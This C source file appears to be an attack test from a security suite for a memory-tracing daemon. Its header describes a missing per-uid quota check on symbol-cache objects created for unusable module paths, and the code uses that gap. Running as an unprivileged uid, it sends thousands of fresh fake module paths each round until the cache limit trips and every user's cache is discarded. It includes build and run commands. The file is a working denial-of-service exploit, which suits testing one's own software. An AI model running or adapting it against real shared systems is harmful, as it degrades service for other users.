/*
 * symcache_objects.c - (hostile9) a local user pushes the symbol cache past
 * its per-uid share (and the total) without a single cached frame: each
 * exit snapshot binds one object per module, and an object for a module file
 * that cannot be used (missing path) is made by name_object()/object_new()
 * with no past_share() check. Distinct paths per round => new objects every
 * round, charged to the attacker's uid, until the generation passes
 * --max-symbol-cache-bytes and is retired (everyone's cache starts afresh).
 *
 * Build: cc -O2 -I/work/wt/hostile9/proto -o /tmp/symobj bench/attacks/symcache_objects.c \
 *          /tmp/b-hostile9/.libs/libproto.a   (or the libproto objects)
 * Run:   setpriv --reuid=65534 --regid=65534 --clear-groups /tmp/symobj RUNDIR [N=8000] [ROUNDS=8]
 *        with DIR as 4th argument the paths are DIR/f0..f(N-1) (files the attacker made:
 *        symbols_bind's path, which does call maybe_retire: the generation is retired)
 * Watch: memtracectl status (limits.symbol_cache_bytes: uid 65534's bytes vs per_uid)
 */
#define _GNU_SOURCE
#include "attack.h"

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	uint32_t N = argc > 2 ? (uint32_t)atoi(argv[2]) : 8000;
	int rounds = argc > 3 ? atoi(argv[3]) : 8;
	static const uint8_t bid[20] = {1};
	for (int round = 0; round < rounds; round++) {
		struct attack_region r;

		attack_region_new(&r);
		for (uint32_t id = 1; id <= N; id++) {
			uint64_t fr = UINT64_C(0x100000000) + (uint64_t)(id - 1) * 0x10000 + 0x10;
			attack_stack(&r, id, &fr, 1);
			attack_event(&r, PROTO_EV_ALLOC, 0x10000 + (uint64_t)id * 64, 64, id);
		}
		attack_publish(&r);
		int fd = attack_hello(argv[1], "/bin/symobj", &r);
		munmap(r.map, SHM_SIZE);
		close(r.fd);
		size_t cap = (size_t)N * 320, len = 0;
		uint8_t *buf = malloc(cap);
		for (uint32_t i = 0; i < N; i++) {
			char path[260];
			int pl = argc > 4
			             ? snprintf(path, sizeof path, "%s/f%u", argv[4], i)
			             : snprintf(path, sizeof path, "/nonexistent/r%04d/%0*u/lib.so",
			                        round, 220, i);
			uint64_t lo = UINT64_C(0x100000000) + (uint64_t)i * 0x10000;
			struct proto_module m = {.bias = lo,
			                         .lo = lo,
			                         .hi = lo + 0x1000,
			                         .build_id = bid,
			                         .build_id_len = sizeof bid,
			                         .path = path,
			                         .path_len = (uint32_t)pl};
			ssize_t k = proto_module_encode(buf + len, cap - len, &m);
			if (k <= 0)
				return 1;
			len += (size_t)k;
		}
		attack_send(fd, buf, len);
		free(buf);
		usleep(500000);
		close(fd);
		printf("round %d: %u modules of fresh missing paths\n", round, N);
		fflush(stdout);
		sleep(3);
	}
	return 0;
}
